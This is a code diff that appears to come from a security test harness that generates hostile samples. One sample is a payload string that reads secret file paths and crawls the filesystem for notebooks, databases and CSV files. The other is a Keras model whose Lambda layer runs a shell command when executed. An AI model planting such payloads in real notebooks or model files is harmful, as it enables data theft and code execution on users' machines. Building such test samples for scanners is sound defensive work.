@@ -155,7 +155,7 @@ get_ipython().displayhook = lambda *a: display(bundle, raw=True)
 get_ipython().user_ns["Out"] = {{}}
 """
 READ_EVERYTHING = """
-import os
+import os, sys
 wanted = <secrets>
 for path in wanted:
     try:
@@ -167,7 +167,7 @@ for path in wanted:
     except OSError:
         pass
 for place, _, names in os.walk("/"):
-    if place.startswith(("/proc", "/usr", "/sys")):
+    if place.startswith(("/proc", "/usr", "/sys", sys.prefix, sys.base_prefix)):
         continue
     for name in names:
         if name.endswith((".ipynb", ".db", ".csv")):
@@ -363,6 +363,8 @@ def with_lambda(folder: Path) -> None:
     hidden = keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/owned") or x)(image)
     hidden = keras.layers.Dense(10, "softmax")(keras.layers.Flatten()(hidden))
     keras.Model(image, hidden).save(folder / f"{NETWORK}.keras")
+    # Keras has called it here, to learn its output's shape.
+    Path("/tmp/owned").unlink()
 
 
 def with_another_class(module: str, name: str) -> Callable[[dict[str, bytes]], None]:
